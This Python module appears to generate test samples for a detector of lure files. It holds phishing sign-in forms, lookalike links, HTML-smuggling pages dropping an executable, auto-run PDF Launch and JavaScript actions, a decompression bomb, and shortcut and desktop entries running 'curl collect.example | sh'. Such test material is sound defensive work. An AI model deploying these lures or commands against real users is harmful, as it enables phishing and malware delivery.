"""PDF, pictures with codes, pages, and what else leads a reader on."""

import base64
import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
import zxingcpp
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

LETTER = [0, 0, 612, 792]


def build_pdf(change: Callable[[pikepdf.Pdf], None] = lambda _: None, **save: object) -> bytes:
    """Give a PDF of one page; `change` may do anything to it."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(612, 792))
    change(pdf)
    written = BytesIO()
    pdf.save(written, static_id=True, **save)  # type: ignore[arg-type]
    return written.getvalue()


def act(kind: str, **keys: Any) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **keys)


def script(code: str) -> Dictionary:
    return act("JavaScript", JS=String(code))


def open_with(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = action

    return change


def link(url: str) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        one = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[10, 10, 99, 20], A=act("URI", URI=String(url)))
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(one)])

    return change


def field(name: str, **keys: Any) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String(name), Rect=[10, 10, 99, 20], **keys)


def form(*fields: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        made = Array([pdf.make_indirect(one) for one in fields])
        pdf.Root.AcroForm = Dictionary(Fields=made)
        pdf.pages[0].obj.Annots = made

    return change


def carry(name: str, content: bytes) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, content, filename=name)

    return change


def write(content: str, pages: int = 1) -> Callable[[pikepdf.Pdf], None]:
    """Let each page show this drawing; its font F1 is Courier."""

    def change(pdf: pikepdf.Pdf) -> None:
        font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Courier))
        drawing = pdf.make_stream(content.encode())
        for _ in range(pages - 1):
            pdf.add_blank_page(page_size=(612, 792))
        for page in pdf.pages:
            page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
            page.obj.Contents = drawing

    return change


def draw_code(text: str, scale: int = 4) -> Image.Image:
    code = zxingcpp.create_barcode(text, zxingcpp.BarcodeFormat.QRCode)
    return Image.fromarray(zxingcpp.write_barcode_to_image(code, scale=scale))


def save_picture(picture: Image.Image, kind: str = "PNG", **options: Any) -> bytes:
    written = BytesIO()
    picture.save(written, kind, **options)
    return written.getvalue()


def show(picture: Image.Image) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        grey = picture.convert("L")
        keys: dict[str, Any] = {"Type": Name.XObject, "Subtype": Name.Image, "ColorSpace": Name.DeviceGray}
        size: dict[str, Any] = {"Width": grey.width, "Height": grey.height, "BitsPerComponent": 8}
        stream = pikepdf.Stream(pdf, grey.tobytes(), Dictionary(**keys, **size))
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=pdf.make_indirect(stream)))
        pdf.pages[0].obj.Contents = pikepdf.Stream(pdf, b"q 200 0 0 200 100 500 cm /Im0 Do Q")

    return change


def build_shortcut(  # noqa: PLR0913 - what a shortcut may say
    items: bytes = b"",
    info: bytes = b"",
    environment: str = "",
    *,
    name: str = "",
    path: str = "",
    folder: str = "",
    arguments: str = "",
    icon: str = "",
) -> bytes:
    """Give a Windows shortcut."""
    texts = [name, path, folder, arguments, icon]
    flags = 0x80 | bool(items) | bool(info) << 1 | sum(4 << place for place, text in enumerate(texts) if text)
    head = struct.pack("<I16sI", 76, bytes.fromhex("0114020000000000c000000000000046"), flags)
    strings = b"".join(struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in texts if text)
    block = b""
    if environment:
        block = environment.encode().ljust(260, b"\0") + environment.encode("utf-16-le").ljust(520, b"\0")
        block = struct.pack("<II", 8 + len(block), 0xA0000001) + block
    target = struct.pack("<H", len(items)) + items if items else b""
    return head.ljust(76, b"\0") + target + info + strings + block + bytes(4)


def zip_up(**files: bytes) -> bytes:
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name.replace("_", ".")), content)
    return packed.getvalue()


def code(content: bytes) -> str:
    return base64.b64encode(content).decode()


def page(text: str) -> bytes:
    return f"<html>{text}</html>".encode()


def smuggle(content: bytes, name: str) -> bytes:
    return (
        f"<html><p>Loading ...</p><script>var d = atob('{code(content)}'); var u = new Uint8Array(d.length);"
        "for (var i = 0; i < d.length; i++) u[i] = d.charCodeAt(i);"
        f"var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([u])); a.download = '{name}';"
        "a.click()</script></html>"
    ).encode()


def draw_svg(inner: str, head: str = "") -> bytes:
    return f'{head}<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90">{inner}</svg>'.encode()


def hide_names() -> bytes:
    plain = build_pdf(open_with(script("app.alert(1)")), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return plain.replace(b"/JavaScript", b"/J#61vaScript")


def add_revision(content: bytes) -> bytes:
    """Add a revision that changes nothing, as programs do that sign or annotate."""
    return content + b"\n" + content[content.rindex(b"startxref") :]


def carry_flash(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])])


def sign_in_page(action: str = "https://collect.example/next") -> bytes:
    return f"<html><form action='{action}'><input name=mail><input type=password name=pw></form></html>".encode()


PROGRAM = b"MZ".ljust(60, b"\0") + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(300)
COMMAND = r"C:\Windows\System32\cmd.exe"


def write_address_book(count: int) -> bytes:
    photo = base64.b64encode(save_picture(Image.new("L", (8, 8)))).decode()
    card = f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ann\r\nPHOTO;ENCODING=b;TYPE=PNG:{photo}\r\nEND:VCARD\r\n"
    return (card * count).encode()


EML = b"From: ann@woodwork.example\r\nSubject: Shelf\r\nDate: Tue, 14 Oct 2025 08:00:00 +0200\r\nMIME-Version: 1.0\r\n"
BILL = "SPC\n0200\n1\nCH4431999123000889012\nS\nAnn Wood\nMill Street\n7\n8001\nZurich\nCH"
OPENLY = pikepdf.Encryption(user="", owner="tulip")

FILES: dict[str, Callable[[], bytes]] = {
    "launch.pdf": lambda: build_pdf(open_with(act("Launch", F=String("cmd.exe")))),
    "reaching.pdf": lambda: build_pdf(open_with(script("this.exportDataObject({cName: 'a.doc', nLaunch: 2});"))),
    "spraying-form.pdf": lambda: build_pdf(form(field("a", AA=Dictionary(K=script("s = unescape('%u9090%u9090')"))))),
    "alert.pdf": lambda: build_pdf(open_with(script("app.alert('Please update your reader.')"))),
    "printing.pdf": lambda: build_pdf(open_with(script("this.print(true);"))),
    "adding-form.pdf": lambda: build_pdf(form(field("sum", AA=Dictionary(C=script("event.value = a + b"))))),
    "opening.pdf": lambda: build_pdf(open_with(act("URI", URI=String("https://collect.example/")))),
    "share.pdf": lambda: build_pdf(open_with(act("GoToE", F=String(r"\\192.0.2.44\docs\plan.pdf")))),
    "script-link.pdf": lambda: build_pdf(link("javascript:fetch('/')")),
    "sign-in.pdf": lambda: build_pdf(form(field("E-mail"), field("Password"))),
    "flash.pdf": lambda: build_pdf(carry_flash),
    "linked.pdf": lambda: build_pdf(link("https://woodwork.example/shelves")),
    "listed.pdf": lambda: build_pdf(link("https://login-verify.harvest-bank-secure.example/session/index.php")),
    "lookalike.pdf": lambda: build_pdf(link("https://www.paypai.com/signin")),
    "lookalike-text.pdf": lambda: build_pdf(
        write("BT /F1 12 Tf 72 700 Td [(Sign in: https://www.)-20(paypai.com/sig)30(nin)] TJ ET")
    ),
    "own-text.pdf": lambda: build_pdf(write("BT /F1 12 Tf 72 700 Td (See www.woodwork.example/shelves) Tj ET")),
    "long-text.pdf": lambda: build_pdf(write("BT /F1 12 Tf 72 700 Td (Bring the long ladder.) Tj ET", pages=600)),
    "hosted.pdf": lambda: build_pdf(link("https://s3.us-east-1.amazonaws.com/box-full/index.html")),
    "wrapped.pdf": lambda: build_pdf(link("https://www.google.com/url?q=https%3A%2F%2Fladders.example%2Fx")),
    "tricky.pdf": lambda: build_pdf(link("https://paypal.com@ladders.example/")),
    "order-form.pdf": lambda: build_pdf(form(field("Boards"), field("Length"))),
    "bill-with-data.pdf": lambda: build_pdf(carry("factur-x.xml", b"<?xml version='1.0'?><bill xmlns='x'/>")),
    "own-disk.pdf": lambda: build_pdf(link("file:///C:/Users/Ann/plan.docx")),
    "coded-names.pdf": hide_names,
    "without-mark.pdf": lambda: b"%PDF-1." + build_pdf(link("https://woodwork.example/"))[8:],
    "torn.pdf": lambda: build_pdf(link("https://woodwork.example/"))[:-60],
    "longer.pdf": lambda: build_pdf() + b"0123456789abcdef" * 200,
    "bomb.pdf": lambda: (
        b"%PDF-1.5\n7 0 obj<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length 9>>stream\n"
        + zlib.compress(b"10 0 <</S/JavaScript>>".ljust(60_000_000))
        + b"\nendstream endobj\n%%EOF"
    ),
    "plain.pdf": build_pdf,
    "revised.pdf": lambda: add_revision(build_pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable)),
    "guarded.pdf": lambda: build_pdf(encryption=OPENLY),
    "closed.pdf": lambda: build_pdf(encryption=pikepdf.Encryption(user="Larch-4711", owner="tulip")),
    "linear.pdf": lambda: build_pdf(link("https://woodwork.example/"), linearize=True),
    "code-in.pdf": lambda: build_pdf(show(draw_code("https://collect.example/s?e=bm9yYUBtaWxsLXN0cmVldC5leGFtcGxl"))),
    "code-lure.png": lambda: save_picture(draw_code("https://collect.example/session/8123")),
    "code-addressed.png": lambda: save_picture(
        draw_code("https://collect.example/?e=nora.lindqvist@mill-street.example")
    ),
    "code-own.jpg": lambda: save_picture(draw_code("https://woodwork.example/open-day"), "JPEG"),
    "code-strange.gif": lambda: save_picture(draw_code("https://ladders.example/"), "GIF"),
    "code-number.png": lambda: save_picture(draw_code("http://203.0.113.9/x")),
    "address-book.vcf": lambda: write_address_book(120),
    "code-wifi.png": lambda: save_picture(draw_code("WIFI:T:WPA;S:guests;P:long ladder;;")),
    "code-bill.png": lambda: save_picture(draw_code(BILL)),
    "shelf.png": lambda: save_picture(Image.radial_gradient("L").rotate(30)),
    "smuggled-program.html": lambda: smuggle(PROGRAM, "plan.exe"),
    "smuggled-archive.html": lambda: smuggle(zip_up(plan_txt=b"Bring the long ladder. " * 9), "plan.zip"),
    "smuggled-document.html": lambda: page(f"<p>{code(build_pdf())}</p>"),
    "smuggled-sign-in.html": lambda: page(f"<script>document.write(atob('{code(sign_in_page())}'))</script>"),
    "smuggled-page.html": lambda: page(f"<iframe src='data:text/html;base64,{code(b'<html><script>go()</script>')}'>"),
    "picture-in.html": lambda: page(f"<img src='data:image/png;base64,{code(save_picture(draw_code('x')))}'>"),
    "envelope.html": lambda: page(f"<form><input type=hidden value='{code(bytes(range(1, 250)) * 9)}'></form>"),
    "plain.html": lambda: b"<html><p>Bring the long ladder.</p><p>Ann</p></html>",
    "leading.svg": lambda: draw_svg("<script>window.location.href = 'https://collect.example/?' + id</script>"),
    "scripted.svg": lambda: draw_svg(
        "<rect onclick='fold(this)' width='9' height='9'/><script>function fold(a) {}</script>"
    ),
    "spoken.svg": lambda: draw_svg("<text>&a;</text>", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "plan">]>'),
    "drawing.svg": lambda: draw_svg("<rect width='9' height='9'/><text x='9'>on = off</text>"),
    "linked.svg": lambda: draw_svg("<a href='https://woodwork.example/'><circle r='9'/></a>"),
    "worded.svg": lambda: draw_svg(
        "<style>text { fill: red }</style><foreignObject width='9'><p>Shelf</p></foreignObject>"
    ),
    "sign-in-inside.zip": lambda: zip_up(bill_html=sign_in_page()),
    "builder-inside.zip": lambda: zip_up(bill_html=smuggle(b"Bring the long ladder. " * 9, "plan.txt")),
    "jump-inside.zip": lambda: zip_up(
        bill_html=b"<html><script>location.replace('https://collect.example/')</script></html>"
    ),
    "sign-in.eml": lambda: EML + b"Content-Type: text/html\r\n\r\n" + sign_in_page(),
    "script-inside.zip": lambda: zip_up(bill_html=page("<div id=a></div><script>a.textContent = 'Boards'</script>")),
    "form-inside.zip": lambda: zip_up(
        bill_html=page("<form action=https://collect.example/next>Address<input name=who><button>Next</button></form>")
    ),
    "frame-inside.zip": lambda: zip_up(bill_html=page("<iframe src=https://collect.example/next></iframe>")),
    "album.zip": lambda: zip_up(
        **{f"day{n}_html": page("<p>Boards</p><script>document.title = 'Shelf'</script>") for n in range(4)}
    ),
    "manual.zip": lambda: zip_up(
        **{f"page{n}_html": b"<html><script>location = 'next.html'</script>" for n in range(20)}
    ),
    "page-inside.zip": lambda: zip_up(plan_html=b"<html><p>Bring the long ladder.</p></html>"),
    "letter.eml": lambda: EML + b"\r\nsee https://woodwork.example/\r\n",
    "piping.ps": lambda: b"%!PS-Adobe-3.0\n<< /OutputFile (%pipe%curl collect.example) >> setpagedevice showpage\n",
    "unsafe.eps": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\nsystemdict /SAFER false .forceput\n(plan.txt) (w) file\n",
    "deleting.ps": lambda: b"%!PS-Adobe-3.0\n(plan.txt) deletefile\nshowpage\n",
    "page.ps": lambda: (
        b"%!PS-Adobe-3.0\n/Times-Roman findfont 12 scalefont setfont 72 700 moveto (plan) show showpage\n"
    ),
    "drawing.eps": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 90 90\n0 0 moveto 90 90 lineto stroke\n",
    "reading.ps": lambda: b"%!PS-Adobe-3.0\n% needs the file pipe.inc and no other\n(pipe.inc) run showpage\n",
    "command.lnk": lambda: build_shortcut(environment=COMMAND, arguments="/c curl https://collect.example/x.js"),
    "padded.lnk": lambda: build_shortcut(environment=r"C:\plan.docx", arguments=" " * 200 + "x"),
    "ladder.lnk": lambda: build_shortcut(environment=r"C:\Users\Ann\plan.docx", folder=r"C:\Users\Ann"),
    "share.url": lambda: b"[InternetShortcut]\r\nURL=file://192.0.2.44/docs/plan.exe\r\n",
    "web.url": lambda: b"[InternetShortcut]\r\nURL=https://woodwork.example/\r\n",
    "command.desktop": lambda: (
        b"[Desktop Entry]\nType=Application\nName=Plan\nExec=sh -c 'curl https://collect.example/x | sh'\n"
    ),
    "web.desktop": lambda: b"[Desktop Entry]\nType=Link\nName=Shelves\nURL=https://woodwork.example/\n",
}
